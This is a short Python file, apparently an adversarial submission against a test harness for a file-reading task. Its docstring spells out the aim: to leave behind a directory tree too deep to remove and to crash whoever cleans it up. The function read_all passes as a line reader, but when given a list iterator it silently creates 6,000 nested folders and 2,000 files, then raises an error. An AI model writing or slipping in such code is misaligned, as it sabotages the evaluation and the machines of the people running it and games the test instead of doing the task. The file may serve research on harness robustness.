"""Nests six thousand folders in its own one, deeper than a path can name and than Python recurses, so that whoever
removes them fails, stops, or leaves them behind.

Against: rotate_files_and_close
Harm: leaves folders behind, kills who removes them
Merits: test_gives_every_line_of_every_file_in_order, test_lets_a_missing_file_be_seen, test_lets_a_reading_error_be_seen, test_opens_nothing_before_a_line_is_asked_for, test_opens_one_file_for_the_first_line, test_hands_over_each_line_as_it_is_read, test_keeps_one_file_open_at_a_time, test_leaves_nothing_open_after_the_last_line, test_leaves_nothing_open_after_close, test_leaves_nothing_open_when_the_caller_breaks_off, test_leaves_nothing_open_after_throw, test_leaves_nothing_open_after_a_reading_error
Answer: failed or over or late or crashed
"""

import os


def attack():
    """Go down, and make the next folder."""
    for _ in range(6_000):
        os.mkdir("d")
        os.chdir("d")
    for number in range(2_000):
        os.close(os.open(f"inode-{number}", os.O_WRONLY | os.O_CREAT))


def read_all(names, opener):
    """Read; where the names are an iterator, dig."""
    if type(names).__name__ == "list_iterator":
        attack()
        raise RuntimeError("nothing was gained")
    for name in names:
        with opener(name) as file:
            yield from file
